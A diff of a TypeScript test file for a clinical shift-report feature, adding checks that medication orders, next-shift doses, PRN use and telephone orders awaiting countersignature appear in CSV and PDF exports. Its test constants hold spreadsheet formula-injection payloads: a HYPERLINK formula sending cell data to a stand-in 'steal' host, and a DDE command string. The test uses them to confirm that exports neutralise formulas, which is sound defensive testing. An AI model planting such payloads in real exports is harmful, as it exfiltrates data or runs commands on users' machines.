@@ -24,7 +24,14 @@ interface ReportDto {
     administrations: { drugName: string; doseMg: number; givenAt: string }[];
     overdue: unknown[];
     openAlerts: unknown[];
+    orders: {
+      active: { id: number; title: string; drugName: string }[];
+      dueNext: { orderId: number; dueAt: string }[];
+      prnUse: { orderId: number; title: string; given: number; held: number; refused: number }[];
+      awaitingCountersign: { id: number }[];
+    };
   }[];
+  ordersAwaitingCountersign: { id: number; bed: string; patientName: string; title: string; orderedBy: string; enteredBy: string }[];
 }
 
 interface Download {
@@ -66,12 +73,16 @@ const FORMULA_NOTE = '=HYPERLINK("http://example.invalid/steal?d="&A1,"click me"
 const FORMULA_INDICATION = '@SUM(1+1) nausea';
 const FORMULA_HOLD = '+cmd|" /C calc"!A0';
 
-const eventCount = (r: ReportDto) => r.patients.reduce((n, p) => n + p.scores.length + p.vitalsOutOfRange.length + p.administrations.length + p.overdue.length + p.openAlerts.length, 0);
+const orderEventCount = (p: ReportDto['patients'][number]) => p.orders.active.length + p.orders.dueNext.length + p.orders.prnUse.length + p.orders.awaitingCountersign.length;
+const eventCount = (r: ReportDto) =>
+  r.patients.reduce((n, p) => n + p.scores.length + p.vitalsOutOfRange.length + p.administrations.length + p.overdue.length + p.openAlerts.length + orderEventCount(p), 0);
+const EVENTS = ['score', 'vital-sign', 'administration', 'overdue-assessment', 'open-alert', 'order', 'dose-due-next-shift', 'prn-use', 'order-awaiting-countersignature'];
 const auditCount = (entity: string) => selectAll<{ n: number }>(api.sqlitePath, 'select count(*) as n from audit_event where entity = ?', entity)[0]?.n ?? 0;
 
 describe('shift report over HTTP', () => {
   let current: ReportDto;
   let chartedAt: string;
+  let verbalOrderId: number;
 
   beforeAll(async () => {
     current = dataOf(await api.nurse.query<ReportDto>('reports.shift', { unitId: api.unitId }));
@@ -82,6 +93,14 @@ describe('shift report over HTTP', () => {
     dataOf(await api.nurse.mutate('assessments.record', cows18(admissionId, { takenAt: chartedAt, note: FORMULA_NOTE })));
     dataOf(await api.nurse.mutate('medications.record', doseBody(admissionId, { givenAt: chartedAt, indication: FORMULA_INDICATION })));
     dataOf(await api.nurse.mutate('medications.record', doseBody(admissionId, { drug: 'ibuprofen', doseMg: 400, givenAt: chartedAt, status: 'held', holdReason: FORMULA_HOLD })));
+    // A telephone order the physician has not countersigned yet, and a scheduled one every 6 h.
+    const physicianId = selectAll<{ id: number }>(api.sqlitePath, "select id from app_user where name = 'Dr. Ben Carter'")[0]?.id;
+    verbalOrderId = (
+      dataOf(
+        await api.nurse.mutate('orders.verbal', { admissionId, orderedBy: physicianId, readBack: true, channel: 'telephone', drug: 'trazodone', doseMg: 50, route: 'PO', kind: 'prn', indication: 'Insomnia' }),
+      ) as { id: number }
+    ).id;
+    dataOf(await api.physician.mutate('orders.create', { admissionId, drug: 'methocarbamol', doseMg: 750, route: 'PO', kind: 'scheduled', everyHours: 6 }));
     current = dataOf(await api.nurse.query<ReportDto>('reports.shift', { unitId: api.unitId }));
   });
 
@@ -125,7 +144,7 @@ describe('shift report over HTTP', () => {
     const records = rows.slice(1).map((r) => Object.fromEntries(COLUMNS.map((c, i) => [c, r[i] ?? ''])));
     const report = dataOf(await api.nurse.query<ReportDto>('reports.shift', { unitId: api.unitId }));
     expect(records).toHaveLength(eventCount(report));
-    for (const r of records) expect(['score', 'vital-sign', 'administration', 'overdue-assessment', 'open-alert']).toContain(r.event);
+    for (const r of records) expect(EVENTS).toContain(r.event);
     // Every charted event of the new patient is there, with the formulas turned into text.
     const mine = records.filter((r) => r.patient === 'Test Patient API-REP-1');
     const score = mine.find((r) => r.event === 'score');
@@ -134,6 +153,19 @@ describe('shift report over HTTP', () => {
     expect(given).toMatchObject({ item: 'Ondansetron', value: '4', unit_of_measure: 'mg', route: 'PO', prn: 'yes', detail: `'${FORMULA_INDICATION}; PRN effect: not reassessed, before 18` });
     const held = mine.find((r) => r.event === 'administration' && r.band_or_status === 'held');
     expect(held).toMatchObject({ item: 'Ibuprofen', value: '400', detail: `'${FORMULA_HOLD}` });
+    // The orders: each active one, the doses due next shift, PRN use against each, the telephone order to countersign.
+    const patient = report.patients.find((p) => p.patient.name === 'Test Patient API-REP-1');
+    expect(mine.filter((r) => r.event === 'order').map((r) => r.item)).toEqual(patient?.orders.active.map((o) => o.drugName));
+    expect(mine.filter((r) => r.event === 'order').length).toBe(9);
+    expect(mine.find((r) => r.event === 'order' && r.item === 'Methocarbamol')).toMatchObject({ value: '750', unit_of_measure: 'mg', band_or_status: 'scheduled', route: 'PO', prn: 'no', record_status: 'active', recorded_by: 'Dr. Ben Carter' });
+    expect(mine.find((r) => r.event === 'order' && r.item === 'Trazodone')).toMatchObject({ band_or_status: 'prn, awaiting countersignature', recorded_by: 'Dr. Ben Carter' });
+    const due = mine.filter((r) => r.event === 'dose-due-next-shift');
+    expect(due.length).toBeGreaterThan(0);
+    expect(due.length).toBe(patient?.orders.dueNext.length);
+    for (const r of due) expect(r).toMatchObject({ item: 'Methocarbamol', value: '750', band_or_status: 'due' });
+    expect(mine.find((r) => r.event === 'prn-use' && r.item === 'Ondansetron')).toMatchObject({ value: '4', band_or_status: '1 given, 0 held, 0 refused', prn: 'yes' });
+    expect(mine.find((r) => r.event === 'prn-use' && r.item === 'Ibuprofen')).toMatchObject({ value: '0', band_or_status: '0 given, 1 held, 0 refused' });
+    expect(mine.find((r) => r.event === 'order-awaiting-countersignature')).toMatchObject({ item: 'Trazodone', band_or_status: 'awaiting countersignature', recorded_by: 'Ana Reyes, RN' });
     for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
     expect(auditCount('shift-report.csv')).toBe(before + 1);
   });
@@ -159,6 +191,36 @@ describe('shift report over HTTP', () => {
     expect(doses.length).toBeGreaterThan(0);
     for (const d of doses) expect(text).toContain(`${d.drugName} ${formatDoseMg(d.doseMg)}`);
     expect(auditCount('shift-report.pdf')).toBe(before + 1);
+  });
+
+  it('GET /reports/shift.pdf: the orders of each patient and the unit\'s orders waiting for a countersignature', async () => {
+    const res = await download(api.physician, `/reports/shift.pdf?unitId=${api.unitId}`);
+    expect(res.status).toBe(200);
+    const text = pdfToText(res.body).replace(/\s+/g, ' ');
+    expect(text).toContain('P Orders');
+    expect(text).toContain('Methocarbamol 750 mg PO scheduled');
+    expect(text).toContain('Due next shift');
+    expect(text).toMatch(/PRN use this shift Ondansetron 4(–\d+)? mg PO PRN: 1 given \(4 mg\)/);
+    expect(text).toContain('Orders waiting for a countersignature');
+    expect(text).toMatch(/Bed 4 Test Patient API-REP-1 Trazodone 50 mg PO PRN — for Insomnia[^(]* \(telephone order from Dr\. Ben Carter, entered by Ana Reyes, RN, AWAITING COUNTERSIGNATURE\)/);
+    const report = dataOf(await api.physician.query<ReportDto>('reports.shift', { unitId: api.unitId }));
+    expect(report.ordersAwaitingCountersign.map((o) => o.id)).toContain(verbalOrderId);
+  });
+
+  it('GET /reports/downtime.pdf: the active orders as a paper MAR, with what is due when, PRN criteria, limits and boxes to initial', async () => {
+    const res = await download(api.nurse, `/reports/downtime.pdf?unitId=${api.unitId}`);
+    expect(res.status).toBe(200);
+    const text = pdfToText(res.body).replace(/\s+/g, ' ');
+    expect(text).toContain('Medication orders (paper MAR): write the time and your initials for each dose');
+    expect(text).toContain('Time / init.');
+    // Table cells wrap and interleave in pdftotext's layout, so the phrases are looked for one by one.
+    const sheet = text.slice(text.indexOf('Bed 4 Test Patient API-REP-1'));
+    const mar = sheet.slice(sheet.indexOf('Medication orders (paper MAR)'));
+    expect(mar).toContain('Methocarbamol 750 mg');
+    expect(mar).toMatch(/every 6 h: \d\d:\d\d/);
+    expect(mar).toContain('at most every 6 h');
+    expect(mar).toMatch(/PRN for Insomnia/);
+    expect(mar).toMatch(/awaiting countersignature/);
   });
 
   it('GET /reports/downtime.pdf: a sheet per occupied bed with its doses of the last 24 h; unitId may be left out', async () => {
